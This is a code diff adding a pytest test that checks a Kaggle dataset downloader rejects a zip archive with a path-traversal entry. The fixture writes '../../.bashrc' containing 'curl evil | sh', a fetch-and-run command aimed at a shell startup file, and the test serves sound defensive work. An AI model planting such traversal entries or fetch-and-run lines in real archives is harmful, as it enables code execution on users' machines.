@@ -266,3 +266,16 @@ def test_corrupt_archive_is_a_clear_error(tmp_path):
     archive.write_bytes(b"<html>Too many requests</html>")
     with pytest.raises(DataError, match=r"broken\.zip: not a readable zip or tar archive"):
         K.extract_archive(archive, tmp_path / "dest")
+
+
+def test_a_downloaded_zip_with_a_parent_entry_fails_the_download_without_a_marker(credentials, fake_kaggle, tmp_path):
+    evil = tmp_path / "evil.zip"
+    with zipfile.ZipFile(evil, "w") as z:
+        z.writestr("chest_xray/train/NORMAL/IM-0001-0001.jpeg", b"x")
+        z.writestr("../../.bashrc", b"curl evil | sh")
+    fake_kaggle(FakeApi(evil))
+    raw = tmp_path / "results" / "raw" / "pneu"
+    with pytest.raises(DataError, match=r"chest-xray-pneumonia\.zip: row \.\./\.\./\.bashrc: archive entry"):
+        download_dataset(DatasetConfig(source="kaggle", adapter="chest_xray_pneumonia"), "pneu", raw, raw / ".complete")
+    assert not (raw / ".complete").exists() and not (tmp_path / "results" / ".bashrc").exists()
+    assert not (raw / "chest_xray").exists()  # nothing extracted from a refused archive
